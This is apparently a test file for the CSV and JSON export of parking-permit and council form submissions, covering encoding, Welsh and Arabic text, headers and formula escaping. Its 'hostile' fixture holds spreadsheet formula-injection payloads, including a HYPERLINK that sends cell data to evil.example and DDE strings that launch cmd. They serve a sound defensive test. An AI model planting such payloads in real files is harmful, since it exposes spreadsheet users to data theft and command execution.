import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { loadForms } from '../../src/definition/load';
import type { FormDefinition } from '../../src/definition/types';
import { submissionsCsv } from '../../src/delivery/submissions-csv';
import { submissionsJson } from '../../src/delivery/submissions-json';
import { webhookPayload } from '../../src/delivery/webhook-payload';
import type { Submission } from '../../src/store/store';
import { createI18n, translator } from '../../src/web/i18n';
import { amaraAnswers, car } from '../fixtures/amara-draft';
import { EXAMPLE_FORMS } from '../support/agent';
import { sampleSubmission } from './support/sample-submission';

const i18n = createI18n();
const t = translator(i18n, 'en');
const parking = loadForms(path.join(__dirname, '..', 'fixtures', 'forms')).get(
  'parking-permit',
) as FormDefinition;

const base = {
  transactionId: 'tx',
  formId: 'parking-permit',
  formVersion: '1.0',
  channel: 'online' as const,
  submittedAt: Date.parse('2031-03-14T10:02:00.000Z'),
};
const llyr: Submission = {
  ...base,
  reference: 'K7QM-3XPD-9C',
  language: 'cy',
  answers: { ...amaraAnswers, 'full-name': 'Llŷr ap Siôn', 'start-date': '2031-04-01' },
};
const amira: Submission = {
  ...base,
  reference: 'M3RT-9CHW-4A',
  language: 'ar',
  channel: 'paper',
  caseworkerId: 'a3f1c9e2-caseworker',
  receivedOn: '2031-03-12',
  answers: {
    'live-in-zone': 'yes',
    'full-name': 'أميرة الحسيني',
    phone: '+44 808 157 0192',
    'has-vehicles': 'yes',
    vehicles: [car],
    'start-date': '2031-05-01',
  },
};
/** Answers someone typed to attack whoever opens the export in a spreadsheet. */
const hostile: Submission = {
  ...base,
  reference: 'X4T9-HQ3C-7P',
  language: 'en',
  answers: {
    'live-in-zone': 'yes',
    'full-name': '=HYPERLINK("http://evil.example/?"&A2,"Click for your permit")',
    phone: "@SUM(1+1)*cmd|' /C calc'!A0",
    email: "-2+3+cmd|' /C calc'!A0",
    'has-vehicles': 'yes',
    vehicles: [
      { id: 'v1', answers: { registration: '\tAB12CDE', fuel: 'petrol' } },
      { id: 'v2', answers: { registration: '\r=1+1', fuel: 'diesel' } },
      { id: 'v3', answers: { registration: 'say "hi",\nthen go', fuel: 'petrol' } },
    ],
    'start-date': '2031-04-01',
  },
};

const csvOf = (...submissions: Submission[]) =>
  submissionsCsv(
    parking,
    submissions.map((s) => webhookPayload(parking, s)),
    t,
  );
const table = (csv: string) => parse(csv, { bom: true }) as string[][];

describe('submissionsCsv', () => {
  it('starts with a UTF-8 byte order mark and keeps Welsh and Arabic intact', () => {
    const csv = csvOf(llyr, amira);
    const bytes = Buffer.from(csv, 'utf8');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [, first, second] = table(csv);
    expect(first).toContain('Llŷr ap Siôn');
    expect(second).toContain('أميرة الحسيني');
  });

  it('has a row per submission: its details, then every answer under its question', () => {
    const [header, first, second] = table(csvOf(llyr, amira));
    expect(header).toEqual([
      'Reference',
      'Received',
      'Channel',
      'Language',
      'Form version',
      'Caseworker',
      'Paper form arrived',
      'Do you live in a resident parking zone?',
      'What is your full name?',
      'Phone number',
      'Email address',
      'Do you own a vehicle?',
      "Your vehicles 1: What is the vehicle's registration number?",
      'Your vehicles 1: What fuel does it use?',
      'Your vehicles 1: Do you need a charging bay?',
      "Your vehicles 2: What is the vehicle's registration number?",
      'Your vehicles 2: What fuel does it use?',
      'Your vehicles 2: Do you need a charging bay?',
      'When do you want the permit to start?',
    ]);
    expect(first).toEqual([
      'K7QM-3XPD-9C',
      '2031-03-14T10:02:00.000Z',
      'online',
      'cy',
      '1.0',
      '',
      '',
      'yes',
      'Llŷr ap Siôn',
      '01632 960001',
      'amara.okafor@example.com',
      'yes',
      'AB12CDE',
      'electric',
      'yes',
      'LV19KTP',
      'petrol',
      '',
      '2031-04-01',
    ]);
    expect(second?.slice(0, 9)).toEqual([
      'M3RT-9CHW-4A',
      '2031-03-14T10:02:00.000Z',
      'paper',
      'ar',
      '1.0',
      'a3f1c9e2-caseworker',
      '2031-03-12',
      'yes',
      'أميرة الحسيني',
    ]);
    // A phone number starting with + is guarded like a formula would be.
    expect(second?.[9]).toBe("'+44 808 157 0192");
    expect(second?.slice(12, 18)).toEqual(['AB12CDE', 'electric', 'yes', '', '', '']);
  });

  it('never lets an answer run as a formula, and keeps quotes, commas and new lines in one cell', () => {
    const [header, row] = table(csvOf(hostile));
    const at = (label: string) => row?.[header?.indexOf(label) ?? -1];
    expect(at('What is your full name?')).toBe(
      '\'=HYPERLINK("http://evil.example/?"&A2,"Click for your permit")',
    );
    expect(at('Phone number')).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(at('Email address')).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(at("Your vehicles 1: What is the vehicle's registration number?")).toBe("'\tAB12CDE");
    expect(at("Your vehicles 2: What is the vehicle's registration number?")).toBe("'\r=1+1");
    expect(at("Your vehicles 3: What is the vehicle's registration number?")).toBe(
      'say "hi",\nthen go',
    );
    expect(row).toHaveLength(header?.length ?? 0);
    for (const cell of row ?? []) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('joins ticked options and address lines in one cell', () => {
    const form = loadForms(EXAMPLE_FORMS).get('council-tax-reduction') as FormDefinition;
    const sent = sampleSubmission(form);
    sent.answers = {
      ...sent.answers,
      benefits: ['universal-credit', 'carers-allowance'],
      'property-address': {
        line1: '12 Heol y Castell',
        line2: 'Flat 2',
        town: 'Caerdydd',
        postcode: 'CF10 1BH',
      },
    };
    const [header, row] = table(submissionsCsv(form, [webhookPayload(form, sent)], t));
    const at = (label: string) => row?.[header?.indexOf(label) ?? -1];
    expect(at('Do you get any of these benefits?')).toBe('universal-credit; carers-allowance');
    expect(at('What is your address?')).toBe('12 Heol y Castell, Flat 2, Caerdydd, CF10 1BH');
  });

  it('gives the header alone, without item columns, for no submissions', () => {
    const [header, ...rows] = table(csvOf());
    expect(rows).toEqual([]);
    expect(header).toHaveLength(13);
    expect(header).not.toContain("Your vehicles 1: What is the vehicle's registration number?");
  });

  it('heads the columns in the words of the form’s own language', () => {
    const welsh = submissionsCsv(parking, [webhookPayload(parking, llyr)], translator(i18n, 'cy'));
    expect(table(welsh)[0]?.slice(0, 7)).toEqual([
      'Cyfeirnod',
      'Dyddiad ei derbyn',
      'Sianel',
      'Iaith',
      'Fersiwn y ffurflen',
      'Gweithiwr achos',
      'Dyddiad cyrraedd y ffurflen bapur',
    ]);
  });
});

describe('submissionsJson', () => {
  it('lists the payloads exactly as webhooks send them', () => {
    const payloads = [llyr, amira].map((s) => webhookPayload(parking, s));
    const json = submissionsJson(payloads);
    expect(json.charCodeAt(0)).toBe('['.charCodeAt(0));
    expect(JSON.parse(json)).toEqual(payloads);
    expect(json).toContain('أميرة الحسيني');
  });
});
